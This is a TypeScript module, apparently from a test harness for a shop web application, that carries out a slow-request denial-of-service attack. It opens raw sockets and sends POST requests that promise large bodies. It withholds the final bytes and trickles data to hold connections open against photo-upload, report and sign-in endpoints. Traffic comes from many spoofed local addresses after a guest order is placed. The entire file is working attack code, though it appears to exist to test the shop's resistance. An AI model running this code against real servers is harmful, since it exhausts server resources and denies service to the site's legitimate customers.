import type { Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { z } from "zod";
import { openClient, Session } from "../customers/customer.ts";
import type { Tools } from "./attack-tools.ts";

const Ordered = z.object({ data: z.object({ id: z.number() }) });

/** Bytes that the head of each upload promises, as a photo of a phone has. */
const photoBytes = 8_000_000;
/** Bytes of a body that may lack its last byte without being stored as a file. */
const smallBytes = 60_000;
const chunk = Buffer.alloc(64 * 1024, "x");
/** A trickle of that many bytes per second is above the minimum of the shop. */
const trickle = Buffer.alloc(1200, "x");
const reportPath = "/en/Product/Verify/report";
const signInPath = "/smile/api/client/auth/login";
const boundary = "----strangers";
const partHead = `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n\r\n`;

interface UnfinishedBody {
  /** Local address. */
  readonly from: string;
  readonly path: string;
  readonly headers: string;
  /** Bytes that the head promises, and those that are sent as fast as possible. */
  readonly promised: number;
  readonly sent: number;
}

/** Sends requests whose bodies never end, from `stranger` and from a hundred networks. */
export function unfinishedBodies({ url, stranger, open, repeat, closed, msLeft }: Tools) {
  const multipart = `Content-Type: multipart/form-data; boundary=${boundary}\r\n`;
  const ofPage = `${multipart}Sec-Fetch-Site: same-origin\r\n`;
  const json = "Content-Type: application/json\r\n";

  /** Sends a body without its end until the shop closes the connection. */
  async function send({ from, path, headers, promised, sent }: UnfinishedBody): Promise<void> {
    const socket = open(from, () => {}).setMaxListeners(0);
    const host = new URL(url).host;
    socket.write(
      `POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers}Content-Length: ${promised}\r\n\r\n${sent > 0 ? partHead : ""}`,
    );
    const trickling = setInterval(() => socket.writableLength === 0 && socket.write(trickle), 1000);
    try {
      await Promise.race([write(socket, sent), closed(socket, msLeft())]);
      await closed(socket, msLeft());
    } finally {
      clearInterval(trickling);
    }
    await sleep(200);
  }

  async function write(socket: Socket, bytes: number): Promise<void> {
    for (let left = bytes; left > 0 && !socket.destroyed; left -= chunk.length) {
      if (!socket.write(chunk.subarray(0, left))) {
        await new Promise<void>((resolve) => {
          socket.once("drain", resolve).once("close", resolve);
        });
      }
    }
  }

  return {
    /**
     * Leaves 220 photos for the order of one guest and 80 reports unfinished, trickles small bodies from a hundred networks, and reports
     * with photos from another twenty.
     */
    async bodies() {
      const { token, orderId } = await guestWithOrder(url, stranger);
      const ofGuest = `${multipart}Authorization: Bearer ${token}\r\n`;
      const photos = `/smile/api/orders/${orderId}/return-photos`;
      const sent = photoBytes - 300_000;
      const photo = { headers: ofGuest, path: photos, promised: photoBytes, sent };
      const report = { headers: ofPage, path: reportPath, promised: photoBytes, sent };
      const signIn = { headers: json, path: signInPath, promised: smallBytes + 5000, sent: smallBytes };
      await repeat(500, async (index) => {
        if (index < 220) await send({ from: stranger, ...photo });
        else if (index < 300) await send({ from: "127.8.0.2", ...report });
        else if (index < 320) await send({ from: `127.7.${index % 20}.1`, ...report });
        else await send({ from: `127.6.${index % 100}.1`, ...signIn });
      });
    },
    /** Promises 71 photos in the heads of requests, and sends none. */
    async promises() {
      await repeat(71, async () => {
        await send({ from: stranger, path: reportPath, headers: ofPage, promised: photoBytes, sent: 0 });
      });
    },
  };
}

/** Places an order of a guest, which lets her send photos for its return. */
async function guestWithOrder(url: string, localAddress: string) {
  const { call } = openClient(url, localAddress);
  const guest = Session.parse(await call("/client/auth/guest", {})).data.access_token;
  const as = { Authorization: `Bearer ${guest}` };
  await call("/cart", { product_id: 1, quantity: 1 }, as);
  const address = { city_id: 1, block: "14", street: "Shehab", house_number: "7", notes: "" };
  const order = {
    payment_method: "cash",
    address,
    name: "منى علي",
    coupon: "",
    note: "",
    phone: "01120000001",
  };
  return { token: guest, orderId: Ordered.parse(await call("/orders", order, as)).data.id };
}
